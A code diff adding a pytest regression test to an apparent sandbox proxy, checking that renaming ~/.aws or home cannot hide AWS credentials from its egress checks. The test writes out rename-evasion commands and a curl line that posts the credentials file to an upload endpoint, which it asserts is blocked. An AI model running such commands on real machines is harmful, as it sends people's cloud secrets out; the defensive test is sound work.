@@ -152,6 +152,26 @@ def test_a_credential_piped_from_another_process_does_not_leave(registry, ws, ho
     assert out.decision == "block" and "127.0.0.1" in out.reason and "proxy" in out.reason
 
 
+@pytest.mark.parametrize("move", ["mv ~/.aws ~/x", "cd ~ && mv .aws y && mv y x && cd - >/dev/null",
+                                  "mv ~ ~/../h2 && mkdir ~ && mv ~/../h2 ~/hh && ln -s hh/.aws ~/x"])
+def test_a_credential_read_by_a_name_a_rename_above_it_gave_does_not_leave(
+        registry, ws, home, tmp_path, move):
+    """Round 4: the proxy asked only of an open's own name whether it was a
+    credential; renaming the directory above one (or home itself) gave it a
+    name the proxy did not know, and curl sent the AWS key to the allowed
+    host. It follows the run's renames back, as the report does."""
+    (home / ".aws").mkdir()
+    (home / ".aws" / "credentials").write_text("[default]\naws_secret_access_key = "
+                                               "wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY\n")
+    out = _run(f"{move}; curl -sS -m 10 --data-binary @$HOME/x/credentials "
+               f"http://{registry.host}/upload", ws, home, tmp_path, allow=[registry.host])
+    assert registry.uploads == []
+    got = _proxied(out)
+    assert got and not any(n.allowed for n in got), got
+    assert "aws" in (got[0].reason or "")
+    assert not out.committed
+
+
 def _through_tunnel(registry, ws, home, tmp_path, then: str):
     """Run a script that opens a CONNECT tunnel to the registry through caper's
     proxy (as s) and then does what `then` says: the tunnel's record."""
